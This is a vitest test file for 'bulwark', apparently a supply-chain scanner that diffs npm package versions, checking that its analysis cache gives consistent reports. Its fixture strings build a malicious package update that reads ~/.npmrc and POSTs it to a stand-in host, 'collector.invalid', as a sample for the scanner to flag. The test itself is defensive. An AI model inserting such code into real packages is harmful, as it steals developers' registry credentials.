import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { makeTgz, type TestEntry } from '../../src/tarball/testdata/make-tarball.js';
import { makeHome, runCli } from './run-cli.js';

const work = makeHome();
const SHARED = Object.fromEntries(
  Array.from({ length: 6 }, (_, i) => [`lib/part-${i}.js`, `exports.p${i} = (x) => x * ${i};\n`]),
);
const COLLECT_OLD = 'module.exports = () => "ok";\n';
const COLLECT_NEW = [
  "const fs = require('fs');",
  "const os = require('os');",
  "module.exports = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
  '',
].join('\n');
const INDEX = [
  "const https = require('https');",
  "const collect = require('./lib/collect');",
  "https.request({ hostname: 'collector.invalid', method: 'POST' }).end(collect());",
  '',
].join('\n');

const tgz = (version: string, collect: string) =>
  makeTgz([
    { name: 'package/package.json', content: JSON.stringify({ name: 'cache-fixture', version }) },
    { name: 'package/index.js', content: INDEX },
    { name: 'package/lib/collect.js', content: collect },
    ...Object.entries(SHARED).map(([name, content]): TestEntry => ({ name: `package/${name}`, content })),
  ]);

const older = join(work, 'cache-fixture-1.0.0.tgz');
const newer = join(work, 'cache-fixture-1.0.1.tgz');

beforeAll(async () => {
  writeFileSync(older, await tgz('1.0.0', COLLECT_OLD));
  writeFileSync(newer, await tgz('1.0.1', COLLECT_NEW));
});

describe('bulwark diff with the file facts cache', () => {
  it('gives the same report uncached, with the cache filling, and from the cache', () => {
    const home = makeHome();
    const uncached = runCli(['diff', older, newer, '--format', 'json', '--no-cache'], { home });
    expect(uncached.stderr).toBe('');
    expect(existsSync(join(home, 'cache', 'file-facts.db'))).toBe(false);
    const first = runCli(['diff', older, newer, '--format', 'json'], { home });
    expect(existsSync(join(home, 'cache', 'file-facts.db'))).toBe(true);
    const second = runCli(['diff', older, newer, '--format', 'json'], { home });
    expect(first.stdout).toBe(uncached.stdout);
    expect(second.stdout).toBe(uncached.stdout);
    expect(second.status).toBe(uncached.status);
    expect(JSON.parse(second.stdout).verdict).not.toBe('benign');
  });

  it('runs without a cache it cannot open, with a warning', () => {
    const home = makeHome();
    // A data directory that is a file: the cache folder cannot be made.
    const blocked = runCli(['diff', older, newer, '--format', 'json'], {
      home,
      env: { BULWARK_HOME: older },
    });
    expect(blocked.stderr).toMatch(/warning: analysis cache not used/);
    expect(JSON.parse(blocked.stdout).verdict).not.toBe('benign');
  });
});
